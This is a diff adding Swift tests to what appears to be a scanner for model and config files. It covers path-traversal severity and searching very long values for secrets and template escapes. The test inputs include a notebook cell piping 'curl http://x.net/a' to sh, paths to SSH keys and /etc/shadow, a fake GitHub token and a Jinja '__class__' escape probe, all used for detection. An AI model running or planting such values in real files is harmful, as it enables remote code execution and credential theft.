@@ -214,4 +214,27 @@ import Testing
             #"{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!curl http://x.net/a | sh\n", "x = 1"]}]}"#
         #expect(scan(text, "n.ipynb").severity == .medium)
     }
+
+    /// A program's configuration names its data from the folder where it is started; a model's stays inside.
+    @Test(arguments: [
+        ("train.yaml", "data:\n  train_path: ../data/train.jsonl\n", Severity.low),
+        ("train.yaml", "log_file: /dev/null\n", .none), ("train.yaml", "key_file: ../../../../home/me/key\n", .high),
+        ("train.yaml", "key_file: ../.ssh/id_rsa\n", .high), ("train.yaml", "key_file: /etc/shadow\n", .high),
+        ("config.json", #"{"vocab_file": "../vocab.txt"}"#, .high),
+    ])
+    func pathsAreJudgedByWhereTheyLead(_ name: String, _ text: String, _ severity: Severity) {
+        #expect(scan(text, name).severity == severity, "\(text)")
+    }
+
+    /// A value that is too long to be decoded is searched all the same, at its end too.
+    @Test func aLongTextIsSearchedInPieces() {
+        let padding = String(repeating: "lorem ipsum ", count: 450_000)
+        let key = "ghp_" + "1aB2cD3eF4gH5iJ6kL7mN8oP9qR0sT1uV2wX"
+        let report = scan("{\"notes\": \"\(padding) \(key)\"}", "config.json")
+        #expect(report.findings.contains { $0.rule == "SECRET-EXPOSED" })
+        #expect(report.outcome == .flagged)
+        let template = scan("{\"chat_template\": \"{{ x }}\(padding){{ a.__class__ }}\"}", "tokenizer_config.json")
+        #expect(template.outcome == .incomplete)
+        #expect(template.findings.contains { $0.rule == "TEMPLATE-ESCAPE" })
+    }
 }
